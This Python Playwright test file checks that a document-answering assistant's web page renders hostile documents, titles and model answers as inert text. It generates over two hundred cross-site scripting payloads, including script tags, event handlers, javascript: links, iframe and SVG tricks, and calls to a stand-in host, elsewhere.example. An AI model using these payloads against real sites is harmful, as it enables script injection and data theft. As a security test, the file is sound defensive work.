"""Nothing that a document, a file name, a title, a question or a model holds runs on the page or calls elsewhere."""

from collections.abc import Iterator
from itertools import product
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from assistant.answers import AnswerSentence, Citation, Draft, Support
from assistant.assistant import Assistant
from assistant.settings import Settings
from tests.browser.conftest import answered, answering, ask, marks, source
from tests.fakes import HashingEmbedding, ScriptedAnswerer
from tests.folders import index, open_folder, write

pytestmark = pytest.mark.browser

# `{}` runs when the browser takes the text for markup; elsewhere.example is what it then would ask.
RUNS = (
    "window.ran=1",
    "window['ran']=1",
    "self.ran=1",
    "top.ran=1",
    "fetch('//elsewhere.example/')",
    "import('//elsewhere.example/x.js')",
    "new Image().src='//elsewhere.example/i'",
)
FORMS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror=\"{}\">",
    "<img src='//elsewhere.example/i.png' onload=\"{}\">",
    "<svg onload=\"{}\"><animate onbegin=\"{}\" attributeName=x dur=1s></svg>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"{}\">",
    "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{}\"></iframe>",
    "<a href=\"javascript:{}\">open</a>",
    "[open](javascript:{})",
    "[open](<javascript:{}> \"title\")",
    "![picture](//elsewhere.example/{}.png)",
    "<body onload=\"{}\"><input autofocus onfocus=\"{}\">",
    "<details open ontoggle=\"{}\"><summary>x</summary></details>",
    "<video><source onerror=\"{}\"></video><audio src=x onerror=\"{}\"></audio>",
    "<form action=\"//elsewhere.example/\"><button formaction=\"javascript:{}\">go</button></form>",
    "<object data=\"data:text/html,<script>{}</script>\"></object><embed src=\"javascript:{}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\"><base href=//elsewhere.example/>",
    "<link rel=stylesheet href=//elsewhere.example/s.css><style>@import '//elsewhere.example/{}'</style>",
    "\" onmouseover=\"{}\" autofocus onfocus=\"{}\" x=\"",
    "' onmouseover='{}' x='",
    "`{}` $${{{}}}$$ \\(\\href{{javascript:{}}}{{x}}\\)",
    "```html\n<script>{}</script>\n```\n\n<img src=x onerror=\"{}\">",
    "%%%LATEX_BLOCK_0%%%<img src=x onerror=\"{}\">",
    "--><!--<img src=x onerror=\"{}\">--><![CDATA[<script>{}</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<xss style=\"background:url(//elsewhere.example/{})\">&lt;script&gt;{}&lt;/script&gt;&#60;img onerror={}&#62;",
    "\u202e<scr\u0000ipt>{}</scr\u0000ipt><SCRIPT SRC=//elsewhere.example/x.js></SCRIPT>",
)  # fmt: skip
PAYLOADS = [form.replace("{}", run).replace("{{", "{").replace("}}", "}") for run, form in product(RUNS, FORMS)]
BATCH = 25
BATCHES = [PAYLOADS[start : start + BATCH] for start in range(0, len(PAYLOADS), BATCH)]
# What the payloads would leave on the page if one of them became markup.
MARKUP = ":is(script, img, iframe, object, embed, form, input, video, audio, link, meta, math, xss, p style)"


def planted(corpus: Path) -> dict[str, str]:
    """Write documents that hold every payload, in their text, title and name; return the texts by name."""
    files: dict[str, str] = {}
    for number, batch in enumerate(BATCHES):
        # A text with a NUL is no text, and is not indexed.
        payloads = [payload.replace("\0", "") for payload in batch]
        lines = "\n\n".join(f"The keeper of tower {number} wrote: {payload}" for payload in payloads)
        name = payloads[0].replace("/", "∕")[:60]
        files[f"{number} {name}.md"] = f"---\ntitle: {payloads[-1]!r}\n---\n\n{lines}\n"
    write(corpus, files)
    return files


def told(batch: list[str], doc: str, text: str) -> Draft:
    """What a hostile model would write, about a hostile document."""
    kinds: tuple[Support, ...] = ("verified", "unsupported", "pending", "verbatim")
    citations = tuple(
        Citation(n, doc, payload, f"javascript:{payload}", "en", payload, n, 0, 40, text[:40], 0.9, "sheet", payload)
        for n, payload in enumerate(batch, 1)
    )
    sentences = tuple(AnswerSentence(payload, (n,), kinds[n % 4]) for n, payload in enumerate(batch, 1))
    return Draft("\n\n".join(batch), sentences, citations)


@pytest.fixture
def requested() -> list[str]:
    """Every address that the browser asked for."""
    return []


@pytest.fixture
def hostile(chromium: Browser, tmp_path: Path, requested: list[str]) -> Iterator[Page]:
    """The page over hostile documents, under a hostile title, before a hostile model."""
    files = planted(tmp_path / "corpus")
    folder = open_folder(tmp_path / "data", tmp_path / "corpus", HashingEmbedding())
    assert index(folder).failed == ()
    replies = [[told(batch, doc, text)] for batch, (doc, text) in zip(BATCHES, files.items(), strict=True)]
    answerer = ScriptedAnswerer(*replies)
    answerer.name = answerer.host = PAYLOADS[2]
    assistant = Assistant(folder, answerer, Settings(title=PAYLOADS[0]))
    with answering(assistant) as address:
        context = chromium.new_context(locale="en-GB")
        context.on("request", lambda request: requested.append(request.url))
        page = context.new_page()
        page.goto(address)
        yield page
        context.close()
    assistant.close()


def test_two_hundred_payloads_run_nowhere_and_call_nobody(hostile: Page, requested: list[str]) -> None:
    assert len(PAYLOADS) >= 200
    for number, batch in enumerate(BATCHES, 1):
        ask(hostile, "The keeper wrote: " + " ".join(batch)[:3_900])
        answered(hostile, number)
    expect(hostile.locator("#chat .said > span:not(.unseen)")).to_have_count(len(PAYLOADS))
    marks(hostile).last.hover()
    marks(hostile).last.click()
    expect(source(hostile)).to_contain_text("The keeper of tower")
    hostile.locator(".also summary").last.click()
    hostile.get_by_role("button", name="Conversations", exact=True).click()
    expect(hostile.get_by_role("dialog").get_by_role("listitem")).to_have_count(1)
    hostile.reload()
    answered(hostile, len(BATCHES))
    found = hostile.locator(f":is(#chat, #source, #conversations, #masthead) {MARKUP}")
    assert found.evaluate_all("elements => elements.map(element => element.outerHTML)") == []
    assert hostile.evaluate("window.ran") is None
    assert [url for url in requested if not url.startswith((hostile.url, "data:", "blob:"))] == []
